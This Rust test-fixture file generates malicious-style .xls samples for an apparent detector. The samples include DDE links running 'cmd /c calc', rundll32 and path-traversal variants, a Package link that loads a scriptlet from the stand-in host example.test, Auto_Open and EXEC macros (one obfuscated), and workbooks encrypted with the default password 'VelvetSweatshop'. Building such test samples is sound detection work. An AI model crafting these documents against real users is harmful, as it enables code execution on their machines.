//! X1 to X4, X13, X16 and X17 as record streams.

use super::{Expect, Sample, sample};
use crate::make::biff::{
    Sheet, Workbook, characters, extern_name, extern_name5, extern_sheet, extern_sheet5, formula, label, label_shared,
    name, ptg, record, shared_strings, supbook,
};
use crate::make::{biff_lock, cfb::Cfb};

const CALC: Expect = Expect::Dde("cmd", "/c calc");

fn compound(stream: &str, bytes: &[u8]) -> Vec<u8> {
    Cfb::new().stream(stream, bytes).bytes()
}

/// A conversation with one item that cell B2 uses.
fn conversation(path: &str, flags: u16) -> Workbook {
    let globals = [
        supbook(path),
        extern_name(flags, "A0", "please enable content"),
        extern_name(0x000a, "StdDocumentName", ""),
        extern_sheet(&[0]),
    ];
    Workbook::simple(&globals, &[formula(1, 1, &ptg::external(0, 1))])
}

fn old(path: &[u8]) -> Workbook {
    let records = [extern_sheet5(path), extern_name5(2, b"A0"), formula(1, 1, &ptg::external5(1, 1))];
    Workbook { old: true, ..Workbook::simple(&[], &records) }
}

/// BIFF2, 3 and 4: one sheet, no list of sheets.
fn oldest(bof: u16, extern_name: u16) -> Vec<u8> {
    let item: &[u8] = if bof == 0x0009 { b"\x02A0" } else { b"\x02\x00\x02A0" };
    let head: &[u8] = if bof == 0x0009 { &[2, 0, 0x10, 0] } else { &[0, 0, 0x10, 0, 0, 0] };
    [record(bof, head), extern_sheet5(b"cmd\x03/c calc"), record(extern_name, item), record(10, &[])].concat()
}

pub(super) fn samples() -> Vec<Sample> {
    [external(), forms(), macros(), locked(), silent()].concat()
}

fn external() -> Vec<Sample> {
    let dde = conversation("cmd\u{3}/c calc", 2);
    let benign = Workbook::simple(&[], &[]);
    let both = |new: &Workbook, old: &Workbook| {
        Cfb::new().stream("Book", &old.bytes()).stream("Workbook", &new.bytes()).bytes()
    };
    let empty_old = Workbook { old: true, ..benign.clone() };
    vec![
        sample("X1", "x1-advised.xls", compound("Workbook", &dde.bytes()), CALC),
        sample("X1", "x1-calculated.xls", compound("WORKBOOK", &conversation("cmd\u{3}/c calc", 0).bytes()), CALC),
        sample("X2", "x2-book.xls", compound("Book", &old(b"cmd\x03/c calc").bytes()), CALC),
        sample("X4", "x4-new-stream.xls", both(&dde, &empty_old), CALC),
        sample("dual-stream", "x4-old-stream.xls", both(&benign, &old(b"cmd\x03/c calc")), CALC),
        sample("X3", "x3-raw-biff8.xls", dde.bytes(), CALC),
        sample("X3", "x3-raw-biff5.xls", old(b"cmd\x03/c calc").bytes(), CALC),
        sample("X3", "x3-biff2.xls", oldest(0x0009, 0x0023), CALC),
        sample("old-format", "x3-biff3.xls", oldest(0x0209, 0x0223), CALC),
        sample("X3", "x3-biff4.xls", oldest(0x0409, 0x0223), CALC),
    ]
}

fn forms() -> Vec<Sample> {
    let dde = conversation("cmd\u{3}/c calc", 2).bytes();
    let orphan = Workbook::simple(&[supbook("cmd\u{3}/c calc"), extern_name(2, "A0", "")], &[]);
    let long = conversation("rundll321234567890abc\u{3}URL.dll,OpenURL calc.exe", 2);
    let path = conversation("MSEXCEL\u{3}\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc", 2);
    let wide = conversation("cmd\u{3}/c calc \u{2014} \u{65e5}\u{672c}", 2);
    let package =
        Workbook::simple(&[supbook("Package\u{3}script:http://example.test/a.sct"), extern_name(0x12, "'", "")], &[]);
    let ole = Expect::Related("ole-link");
    let trailing = [dde, b"\x01\x02\x03trailing".to_vec()].concat();
    vec![
        sample("trailing-bytes", "x1-trailing-bytes.xls", compound("Workbook", &trailing), CALC),
        sample("orphan-link", "x1-orphan-item.xls", compound("Workbook", &orphan.bytes()), CALC),
        sample(
            "long-service",
            "x1-long-service.xls",
            compound("Workbook", &long.bytes()),
            Expect::Dde("rundll321234567890abc", "URL.dll,OpenURL calc.exe"),
        ),
        sample(
            "path-trick",
            "x1-path-trick.xls",
            compound("Workbook", &path.bytes()),
            Expect::Dde("MSEXCEL", "\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc"),
        ),
        sample(
            "X1",
            "x1-utf16.xls",
            compound("Workbook", &wide.bytes()),
            Expect::Dde("cmd", "/c calc \u{2014} \u{65e5}\u{672c}"),
        ),
        sample("X16", "x16-package-script.xls", compound("Workbook", &package.bytes()), ole),
    ]
}

fn macro_book(records: &[Vec<u8>], state: u8, globals: &[Vec<u8>]) -> Vec<u8> {
    let sheet = Sheet { name: "Macro1".to_owned(), is_macro: true, state, records: records.concat() };
    compound("Workbook", &Workbook { globals: globals.concat(), sheets: vec![sheet], ..Workbook::default() }.bytes())
}

fn macros() -> Vec<Sample> {
    let auto_open = || name("\u{1}", true, &[]);
    let initiate = [ptg::text("cmd"), ptg::text("/c calc"), ptg::function(175)].concat();
    let execute = [ptg::cell(0, 0), ptg::text("[calc]"), ptg::function(178)].concat();
    let exec = [ptg::text("calc.exe"), ptg::call(110, 1)].concat();
    // EXEC(CHAR(99)&A1&"exe"), A1 a shared string.
    let hidden = [
        ptg::int(99),
        ptg::function(111),
        ptg::cell(0, 0),
        ptg::JOIN.to_vec(),
        ptg::text("exe"),
        ptg::JOIN.to_vec(),
        ptg::call(110, 1),
    ]
    .concat();
    let spoken = [formula(0, 0, &initiate), formula(1, 0, &execute)];
    let obscured = [label_shared(0, 0, 0), formula(1, 0, &hidden)];
    let named = Workbook::simple(&[name("run", false, &exec)], &[]);
    let connection = "ODBC;DSN=x;SERVER=db.example.test";
    let text = [(connection.len() as u16).to_le_bytes().to_vec(), characters(connection)].concat();
    let query = Workbook::simple(&[], &[record(0x00dc, &[0; 12]), record(0x00cd, &text)]);
    vec![
        sample("X13", "x13-name.xls", compound("Workbook", &named.bytes()), Expect::Related("macro-exec")),
        sample("X14", "x14-database.xls", compound("Workbook", &query.bytes()), Expect::Related("query")),
        sample("X13", "x13-initiate.xls", macro_book(&spoken, 0, &[auto_open()]), Expect::Related("macro-dde")),
        sample("X13", "x13-exec.xls", macro_book(&[formula(0, 0, &exec)], 0, &[]), Expect::Related("macro-exec")),
        sample(
            "X13",
            "x13-hidden-joined.xls",
            macro_book(&obscured, 2, &[auto_open(), shared_strings(&["alc."])]),
            Expect::Related("macro-exec"),
        ),
    ]
}

fn locked() -> Vec<Sample> {
    let dde = || conversation("cmd\u{3}/c calc", 2);
    let default = "VelvetSweatshop";
    vec![
        sample("X17", "x17-rc4.xls", compound("Workbook", &biff_lock::rc4_40(dde(), default)), CALC),
        sample(
            "default-password",
            "x17-cryptoapi.xls",
            compound("Workbook", &biff_lock::cryptoapi(dde(), default)),
            CALC,
        ),
        sample("X17", "x17-xor.xls", compound("Workbook", &biff_lock::xor(dde(), default)), CALC),
    ]
}

fn silent() -> Vec<Sample> {
    let other = supbook("\u{1}C:\\\u{3}data\u{3}prices.xls");
    let own = record(0x01ae, &[1, 0, 1, 4]);
    let add_in = [record(0x01ae, &[1, 0, 1, 0x3a]), extern_name(0, "EOMONTH", "")].concat();
    let feed: Vec<Vec<u8>> = std::iter::once(supbook("MTX\u{3}DATA"))
        .chain((0..606).map(|number| extern_name(2, &format!("ITEM{number}.SON"), "1.25")))
        .collect();
    let text = [label(0, 0, "=cmd|'/c calc'!A0 is text here"), label(1, 0, "DDE DDEAUTO"), label(2, 0, "-5")];
    let quiet = |name, book: &Workbook| sample("X1", name, compound("Workbook", &book.bytes()), Expect::Silent);
    vec![
        quiet("x1-near-other-workbook.xls", &Workbook::simple(&[own, other, add_in, extern_sheet(&[0, 1, 2])], &[])),
        quiet("x1-near-market-feed.xls", &Workbook::simple(&feed, &[])),
        quiet("x1-near-text.xls", &Workbook::simple(&[], &text)),
        sample(
            "X2",
            "x2-near-other-workbook.xls",
            compound("Book", &old(b"\x01C:\\\x03data\x03prices.xls").bytes()),
            Expect::Silent,
        ),
    ]
}
